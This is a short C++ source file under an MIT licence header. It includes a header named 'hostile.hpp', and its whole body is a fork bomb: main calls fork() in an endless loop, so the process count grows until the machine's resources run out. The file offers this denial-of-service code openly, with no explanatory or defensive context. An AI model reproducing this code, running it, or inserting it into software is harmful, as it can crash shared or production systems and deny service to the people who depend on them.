// Every process starts two more.
// SPDX-License-Identifier: MIT
#include "hostile.hpp"

int main() {
    for (;;) {
        ::fork();
    }
}
